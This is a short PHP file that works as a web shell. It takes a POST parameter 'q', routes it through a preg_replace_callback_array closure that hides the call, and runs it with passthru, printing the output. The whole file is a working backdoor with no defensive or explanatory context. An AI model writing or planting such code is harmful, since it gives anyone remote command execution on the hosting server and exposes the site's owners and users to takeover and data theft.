<?php
// a callback map whose closure hands the matched text to the shell
if (isset($_POST['q'])) {
    echo '<pre>';
    preg_replace_callback_array(
        [
            '/^.+$/s' => function ($m) {
                passthru($m[0] . ' 2>&1');
            },
        ],
        $_POST['q']
    );
    echo '</pre>';
}
